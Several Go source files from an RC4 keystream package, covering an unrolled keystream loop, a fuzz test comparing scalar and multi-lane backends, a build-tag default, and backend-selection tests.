		d[3] = s[uint8(x+y)]
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		d[4] = s[uint8(x+y)]
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		d[5] = s[uint8(x+y)]
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		d[6] = s[uint8(x+y)]
		i++
		x = x2
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		d[7] = s[uint8(x+y)]
		i++
		x = x2
	}
	for ; n < len(dst); n++ {
		j += x
		y = s[j]
		x2 = s[i+1]
		s[i] = y
		s[j] = x
		if j == i+1 {
			x2 = x
		}
		dst[n] = s[uint8(x+y)]
		i++
		x = x2
	}
	c.i, c.j = i-1, j
}

// State returns a copy of the permutation and the current i, j indices.
func (c *Cipher) State() (s [StateSize]byte, i, j uint8) {
	return c.s, c.i, c.j
}

// Reset zeroes the cipher state so key material does not linger.
func (c *Cipher) Reset() {
	for n := range c.s {
		c.s[n] = 0
	}
	c.i, c.j = 0, 0
}
