package rc4

import (
	"bytes"
	"testing"
)

// FuzzKeystreamBackends drives the scalar and batched backends through the
// same randomized schedule — key material, skip offsets, and a sequence of
// window sizes — and requires bitwise-identical keystream on every lane at
// every split. The fuzzer owns the input bytes: the first few choose key
// length, skip, and chunking, the rest seed the per-lane keys. This is the
// cross-backend contract the dataset engine relies on, explored far past
// the fixed shapes in multi_test.go.
func FuzzKeystreamBackends(f *testing.F) {
	f.Add([]byte{16, 3, 0, 200, 10, 20, 30})
	f.Add([]byte{1, 0, 7})
	f.Add([]byte{255, 255, 255, 255, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9})
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		next := func() byte {
			if len(data) == 0 {
				return 0
			}
			b := data[0]
			data = data[1:]
			return b
		}
		keyLen := int(next())%MaxKeyLen + 1
		skip := int(next()) * int(next()) // 0..65025, crosses many i wraps
		// Up to 4 generate calls of 0..511 bytes each, so carried i/j
		// state is checked at every chunk boundary.
		sizes := make([]int, int(next())%4+1)
		for c := range sizes {
			sizes[c] = int(next()) + int(next())
		}
		keys := make([][]byte, MultiLanes)
		for l := range keys {
			keys[l] = make([]byte, keyLen)
			for b := range keys[l] {
				keys[l][b] = next() + byte(b*l) + byte(l)
			}
		}

		m := NewMulti()
		if err := m.Rekey(keys); err != nil {
			t.Fatal(err)
		}
		refs := make([]*Cipher, MultiLanes)
		for l := range refs {
			refs[l] = MustNew(keys[l])
		}

		m.Skip(skip)
		for _, ref := range refs {
			ref.Skip(skip)
		}
		for c, size := range sizes {
			got := make([][]byte, MultiLanes)
			for l := range got {
				got[l] = make([]byte, size)
			}
			m.Keystream(got)
			want := make([]byte, size)
			for l, ref := range refs {
				ref.Keystream(want)
				if !bytes.Equal(got[l], want) {
					t.Fatalf("keyLen=%d skip=%d chunk=%d size=%d lane=%d: backends diverged",
						keyLen, skip, c, size, l)
				}
			}
		}
		// The final PRGA indices must agree too — divergence here would
		// poison the *next* window even if all compared bytes matched.
		for l, ref := range refs {
			if m.j[l] != ref.j {
				t.Fatalf("lane %d: j diverged (%d vs %d)", l, m.j[l], ref.j)
			}
		}
		if m.i != refs[0].i {
			t.Fatalf("i diverged (%d vs %d)", m.i, refs[0].i)
		}
	})
}
