//go:build rc4_purego

package rc4

// Under the rc4_purego tag the default backend is the scalar reference
// path: the tag is the opt-out for environments that want the simplest
// possible kernels (and is where a future GOARCH-gated assembly backend
// would be disabled wholesale). Explicit Backend choices and RC4_BACKEND
// still override — the tag only moves the auto default.
const defaultBackend = BackendScalar
