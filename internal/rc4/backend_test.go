package rc4

import "testing"

func TestParseBackend(t *testing.T) {
	cases := []struct {
		name string
		want Backend
		ok   bool
	}{
		{"", BackendAuto, true},
		{"auto", BackendAuto, true},
		{"scalar", BackendScalar, true},
		{"multi", BackendMulti, true},
		{"soa", BackendMulti, true},
		{"SoA", 0, false},
		{"avx2", 0, false},
	}
	for _, c := range cases {
		got, err := ParseBackend(c.name)
		if c.ok != (err == nil) {
			t.Errorf("ParseBackend(%q) err = %v, want ok=%v", c.name, err, c.ok)
			continue
		}
		if c.ok && got != c.want {
			t.Errorf("ParseBackend(%q) = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestBackendResolve(t *testing.T) {
	t.Setenv(BackendEnv, "")
	if got, err := BackendScalar.Resolve(); err != nil || got != BackendScalar {
		t.Errorf("explicit scalar resolved to %v, %v", got, err)
	}
	if got, err := BackendAuto.Resolve(); err != nil || got != defaultBackend {
		t.Errorf("auto resolved to %v, %v; want compile-time default %v", got, err, defaultBackend)
	}

	t.Setenv(BackendEnv, "scalar")
	if got, err := BackendAuto.Resolve(); err != nil || got != BackendScalar {
		t.Errorf("auto with RC4_BACKEND=scalar resolved to %v, %v", got, err)
	}
	// An explicit choice beats the environment.
	if got, err := BackendMulti.Resolve(); err != nil || got != BackendMulti {
		t.Errorf("explicit multi with RC4_BACKEND=scalar resolved to %v, %v", got, err)
	}

	t.Setenv(BackendEnv, "soa")
	if got, err := BackendAuto.Resolve(); err != nil || got != BackendMulti {
		t.Errorf("auto with RC4_BACKEND=soa resolved to %v, %v", got, err)
	}

	t.Setenv(BackendEnv, "vliw")
	if _, err := BackendAuto.Resolve(); err == nil {
		t.Error("invalid RC4_BACKEND value did not error")
	}
}

func TestBackendString(t *testing.T) {
	for b, want := range map[Backend]string{
		BackendAuto: "auto", BackendScalar: "scalar", BackendMulti: "multi", Backend(9): "Backend(9)",
	} {
		if got := b.String(); got != want {
			t.Errorf("Backend(%d).String() = %q, want %q", int(b), got, want)
		}
	}
}
